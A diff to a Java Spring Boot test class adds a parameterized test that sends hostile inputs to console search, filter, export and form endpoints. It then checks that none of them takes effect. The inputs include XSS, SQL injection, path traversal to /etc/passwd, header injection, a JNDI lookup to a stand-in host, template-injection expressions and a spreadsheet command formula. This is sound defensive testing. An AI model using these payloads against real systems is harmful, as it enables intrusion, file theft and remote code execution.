@@ -1,12 +1,15 @@
 package cn.mentougou.consoleframe;
 
 import java.net.http.HttpResponse;
+import java.util.List;
 import java.util.Map;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.boot.test.context.SpringBootTest;
 import org.springframework.boot.test.web.server.LocalServerPort;
 
@@ -93,6 +96,28 @@ class ListPageTests {
 		HttpResponse<String> answer = this.clerk.post("/console/sample/12", Map.of("version", "3"));
 		assertThat(answer.statusCode()).isEqualTo(302);
 		assertThat(answer.headers().firstValue("Location").orElseThrow()).endsWith("/console");
+	}
+
+	/** Shown again as typed, or refused; never run, never a failure of ours. */
+	@ParameterizedTest
+	@ValueSource(strings = { "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
+			"' OR '1'='1' --", "1; DROP TABLE unit", "../../../../etc/passwd", "x\r\nSet-Cookie: role=LEADER",
+			"${jndi:ldap://192.0.2.9/a}", "${7*7}", "__${7*7}__::.x", "#{T(java.lang.Runtime)}", "*{7*7}",
+			"=cmd|' /C calc'!A0", "\u202Egpj.exe", "a\u0000b", "\uFEFF\u200B", "\uD83D\uDE00\uD83D\uDE00", "%n%n%s%x",
+			"{0}{1}{", "'{'", "<!--", "]]>" })
+	void attackThroughAnInputHasNoEffect(String attack) throws Exception {
+		String input = Visitor.encoded(attack);
+		for (HttpResponse<String> answer : List.of(this.clerk.get("/console/search?q=" + input),
+				this.clerk.get("/console/sample?title=" + input + "&state=" + input + "&after=" + input),
+				this.clerk.get("/console/sample/export?title=" + input + "&state=" + input),
+				this.clerk.post("/console/sample/new",
+						Map.of("title", attack, "channel", attack, "receivedOn", attack)),
+				this.clerk.post("/console/sample/12", Map.of("version", attack)))) {
+			assertThat(answer.statusCode()).isLessThan(500);
+			assertThat(answer.headers().allValues("Set-Cookie")).noneMatch((cookie) -> cookie.contains("LEADER"));
+			assertThat(answer.body()).doesNotContain("<script>alert", "<img src=x", "Exception")
+				.doesNotContainPattern("[\">“]49[\"<”]");
+		}
 	}
 
 	@Test
